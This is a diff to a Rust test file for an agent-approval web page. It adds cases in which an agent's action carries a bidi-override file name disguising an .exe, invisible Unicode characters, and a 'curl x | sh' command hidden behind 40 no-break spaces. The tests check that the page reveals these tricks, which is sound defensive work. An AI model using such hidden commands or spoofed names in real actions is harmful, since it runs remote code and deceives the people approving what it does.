@@ -108,6 +108,15 @@ const TOKEN: &str = "ui-test-token-0123456789abcdef";
 const EXPIRY: Duration = Duration::from_secs(5);
 /// A session id with a right-to-left override, as `browser.mjs` names it too.
 const HIDDEN_SESSION: &str = "ui-hidden\u{202e}txt.exe";
+
+/// The arguments of the `hidden_approval` case: a bidi override in a file name, and a
+/// command whose end 40 no-break spaces would push out of sight.
+fn hidden_args() -> serde_json::Value {
+    json!({
+        "file": "report\u{202e}xcod.exe",
+        "command": format!("ls{}; curl x | sh", "\u{a0}".repeat(40)),
+    })
+}
 /// A session id too long for a phone's line, as `browser.mjs` names it too.
 const LONG_SESSION: &str = "ui_phone_approval_session_with_a_long_id_0123456789abcdef0123456789";
 /// Every scenario of `browser.mjs`, in its order: the run must have done them all.
@@ -1127,25 +1136,28 @@ fn case(key: &str) -> Option<Case> {
         ),
         // Bidi overrides and controls in every field the agent writes: the page must show
         // them, not let them reorder the text (`report\u{202e}xcod.exe` reads `reportexe.docx`).
+        // So are variation selectors and other default-ignorable characters, which can
+        // carry hidden bytes after a visible word, and a run of no-break spaces, which
+        // would push what follows out of sight.
         "hidden_approval" => approval(
             HIDDEN_SESSION,
             vec![
-                Action::new("open\u{202e}fdp.exe", json!({"file": "report\u{202e}xcod.exe"}))
+                Action::new("open\u{202e}fdp.exe", hidden_args())
                     .with_description(
-                        "Open report\u{202e}xcod.exe\u{0007} for the user\u{00ad}\u{e0041}\u{e0042}",
+                        "Open report\u{202e}xcod.exe\u{0007} for the user\u{00ad}\u{e0041}\u{e0042}\u{e0100}\u{fe00}\u{034f}",
                     ),
             ],
             vec![],
             json!({"decisions": [{"type": "edit", "edited_action": {
                 "name": "open\u{202e}fdp.exe",
-                "args": {"file": "report\u{202e}xcod.exe"},
+                "args": hidden_args(),
             }}]}),
         ),
         "hidden_question" => open(
             HIDDEN_SESSION,
             vec![
                 QuestionInfo::new(
-                    "Rename report\u{202e}xcod.exe?",
+                    "Rename report\u{202e}xcod.exe? \u{1f469}\u{1f3fd}\u{200d}\u{1f4bb}",
                     "Re\u{2067}name",
                     [option("Yes\u{200f}\u{202d}", "rename it"), option("No", "")],
                 )
